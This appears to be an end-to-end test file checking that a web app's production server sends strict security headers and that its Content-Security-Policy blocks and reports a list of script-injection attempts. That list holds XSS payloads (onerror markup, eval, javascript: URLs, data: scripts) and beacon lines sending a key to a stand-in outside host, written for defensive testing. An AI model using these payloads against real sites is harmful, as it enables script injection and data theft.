/** The production build behind its real server: headers everywhere, injections stopped and reported, nobody else called. */

import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { join } from 'node:path';
import type { BrowserContext, Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { securityHeaders } from '../../simulator/hosts/node/headers.ts';
import { openProfile, type Profile, waitUntil } from '../support/browser.ts';
import { nodeFolder, type Site, startSite } from '../support/server.ts';

let site: Site;
let profile: Profile;

beforeAll(async () => {
  site = await startSite();
  profile = await openProfile();
});

afterAll(async () => {
  await profile.close();
  await site.stop();
});

describe('the headers', () => {
  it('are exactly these', () => {
    expect(securityHeaders).toMatchInlineSnapshot(`
      {
        "Content-Security-Policy": "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data: blob:; connect-src 'self'; worker-src 'self' blob:; manifest-src 'self'; media-src 'self' blob:; frame-src 'self'; object-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'self'; require-trusted-types-for 'script'; trusted-types guitai-worker guitai-copy default",
        "Cross-Origin-Embedder-Policy": "require-corp",
        "Cross-Origin-Opener-Policy": "same-origin",
        "Cross-Origin-Resource-Policy": "same-origin",
        "Permissions-Policy": "camera=(self), autoplay=(self), fullscreen=(self), screen-wake-lock=(self), window-management=(self), clipboard-write=(self), accelerometer=(), clipboard-read=(), display-capture=(), geolocation=(), gyroscope=(), hid=(), magnetometer=(), microphone=(), midi=(), payment=(), publickey-credentials-get=(), serial=(), usb=(), xr-spatial-tracking=()",
        "Referrer-Policy": "no-referrer",
        "Strict-Transport-Security": "max-age=63072000; includeSubDomains",
        "X-Content-Type-Options": "nosniff",
      }
    `);
  });

  it.each([
    ['/', 200],
    ['/index.html', 200],
    ['/simulator/', 200],
    ['/sw.js', 200],
    ['/manifest.webmanifest', 200],
    ['/tokens.css', 200],
    ['/icons/icon.svg', 200],
    ['/release.json', 200],
    ['/nothing-here', 404],
    ['/assets/nothing-here.js', 404],
    ['/practice/alipay/gateway.do', 404],
    ['/live/alipay/gateway.do', 404],
    ['/_simulator/wallets', 404],
  ])('come with %s, which answers %i', async (path, status) => {
    const answer = await fetch(site.origin + path);
    expect(answer.status).toBe(status);
    for (const [name, value] of Object.entries(securityHeaders)) {
      expect(answer.headers.get(name), name).toBe(value);
    }
  });

  it('stand in the pages too, for hosts that cannot set them', async () => {
    for (const path of ['/', '/simulator/']) {
      const html = await (await fetch(site.origin + path)).text();
      expect(html).toContain('http-equiv="Content-Security-Policy" content="default-src');
      expect(html.indexOf('<meta charset')).toBeLessThan(1024);
      expect(html).not.toContain('frame-ancestors');
      expect(html).not.toMatch(/<script(?![^>]*\ssrc=)/);
      expect(html).not.toMatch(/\sstyle=|<style/);
    }
  });
});

// Each is run as the page's own code. `ran()` would be proof of execution; all must be stopped and reported.
const injections: readonly (readonly [string, string])[] = [
  ['markup with an error handler', `document.body.innerHTML = '<img src=x onerror="ran()">'`],
  ['markup in place of an element', `document.body.firstElementChild.outerHTML = '<svg onload="ran()">'`],
  [
    'markup beside an element',
    `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="ran()">')`,
  ],
  ['markup written into the page', `document.write('<script>ran()</' + 'script>')`],
  ['a fragment of markup', `document.createRange().createContextualFragment('<img src=x onerror="ran()">')`],
  ['a parsed document', `new DOMParser().parseFromString('<script>ran()</' + 'script>', 'text/html')`],
  [
    'a frame with its own markup',
    `document.createElement('iframe').srcdoc = '<script>parent.ran()</' + 'script>'`,
  ],
  [
    'an inline script',
    `const s = document.createElement('script'); s.textContent = 'ran()'; document.body.append(s)`,
  ],
  [
    'an inline script put together from text',
    `const s = document.createElement('script'); s.append('ran()'); document.body.append(s)`,
  ],
  [
    'an inline script of an SVG',
    `const s = document.createElementNS('http://www.w3.org/2000/svg', 'script'); s.append('ran()'); document.body.append(s)`,
  ],
  [
    'a script from a data address',
    `const s = document.createElement('script'); s.src = 'data:text/javascript,ran()'; document.body.append(s)`,
  ],
  [
    'a script from elsewhere',
    `const s = document.createElement('script'); s.setAttribute('src', 'https://elsewhere.example/a.js'); document.body.append(s)`,
  ],
  ['a module from a data address', `import('data:text/javascript,ran()').catch(() => {})`],
  ['evaluated text', `eval('ran()')`],
  ['a function made of text', `new Function('ran()')()`],
  ['a timer with text', `setTimeout('ran()')`],
  ['a repeated timer with text', `setInterval('ran()', 10)`],
  ['a handler attribute', `document.body.setAttribute('onclick', 'ran()'); document.body.click()`],
  [
    'a javascript: frame',
    `const f = document.createElement('iframe'); f.src = 'javascript:parent.ran()'; document.body.append(f)`,
  ],
  [
    'a javascript: link',
    `const a = document.createElement('a'); a.href = 'javascript:ran()'; document.body.append(a); a.click()`,
  ],
  [
    'a worker from a data address',
    `new Worker('data:text/javascript,postMessage(1)').onmessage = () => ran()`,
  ],
  [
    'a second policy that allows everything',
    `trustedTypes.createPolicy('anything', { createHTML: (x) => x })`,
  ],
  [
    'a style in the page',
    `const s = document.createElement('style'); s.textContent = 'body { display: none }'; document.head.append(s)`,
  ],
  [
    'a frame from elsewhere',
    `const f = document.createElement('iframe'); f.src = 'https://elsewhere.example/'; document.body.append(f)`,
  ],
  [
    'a plug-in',
    `const o = document.createElement('object'); o.data = '/icons/icon.svg'; document.body.append(o)`,
  ],
  [
    'another base address',
    `const b = document.createElement('base'); b.href = 'https://elsewhere.example/'; document.head.append(b)`,
  ],
  [
    'a form that posts elsewhere',
    `const f = document.createElement('form'); f.action = 'https://elsewhere.example/'; document.body.append(f); f.submit()`,
  ],
  ['a message to elsewhere', `fetch('https://elsewhere.example/?key=1').catch(() => {})`],
  ['a picture from elsewhere', `new Image().src = 'https://elsewhere.example/?key=1'`],
];

async function openWatchedPage(context: BrowserContext): Promise<Page> {
  const page = await context.newPage();
  await page.addInitScript(`
    globalThis.reports = [];
    globalThis.executed = 0;
    globalThis.ran = () => { globalThis.executed += 1; };
    document.addEventListener('securitypolicyviolation', (event) => reports.push(event.effectiveDirective));
  `);
  await page.goto(`${site.origin}/`);
  return page;
}

describe('an injection', () => {
  it.each(injections)('as %s does nothing and is reported', async (_, code) => {
    const page = await openWatchedPage(profile.context);
    // From a timer, since the debugger's own evaluation may do what the page may not.
    expect(await page.evaluate('reports')).toEqual([]);
    await page.evaluate(`new Promise((done) => setTimeout(() => { done(); ${code} }))`);
    await waitUntil(page, 'reports.length > 0');
    expect(await page.evaluate('executed')).toBe(0);
    await page.close();
  });
});

describe('the pages', () => {
  it('ask no other origin for anything, and break no rule of their own', async () => {
    const origins = new Set<string>();
    const page = await openWatchedPage(profile.context);
    page.on('request', (request) => origins.add(new URL(request.url()).origin));
    for (const path of ['/', '/simulator/']) {
      await page.goto(site.origin + path, { waitUntil: 'networkidle' });
      expect(await page.evaluate('reports')).toEqual([]);
      expect(await page.evaluate('crossOriginIsolated')).toBe(true);
    }
    expect([...origins].filter((origin) => origin.startsWith('http'))).toEqual([site.origin]);
    await page.close();
  });
});

interface Ended {
  readonly code: number | null;
  readonly output: string;
}

async function runStart(port: string): Promise<Ended> {
  const child = spawn(process.execPath, [join(nodeFolder, 'start.js')], {
    env: { ...process.env, PORT: port },
  });
  const closed = once(child, 'close');
  let output = '';
  child.stderr.on('data', (part: Buffer) => {
    output += part.toString();
  });
  child.stdout.on('data', (part: Buffer) => {
    output += part.toString();
    child.kill('SIGTERM');
  });
  const [code] = (await closed) as [number | null];
  return { code, output };
}

describe('npm start', () => {
  it('says where the counter is ready, and ends when told', async () => {
    const free = await startSite();
    await free.stop();
    const port = new URL(free.origin).port;
    expect(await runStart(port)).toEqual({
      code: 0,
      output: `Guitai is ready at http://localhost:${port}/\n`,
    });
  });

  it('names PORT when the port is taken', async () => {
    const port = new URL(site.origin).port;
    const { code, output } = await runStart(port);
    expect(code).toBe(1);
    expect(output).toMatch(new RegExp(`^Port ${port} is already in use: set PORT to another one.*\\n$`));
  });

  it('refuses a PORT that is no number', async () => {
    const { code, output } = await runStart('till');
    expect(code).toBe(1);
    expect(output).toBe('PORT must be a number from 0 to 65535, not "till".\n');
  });
});
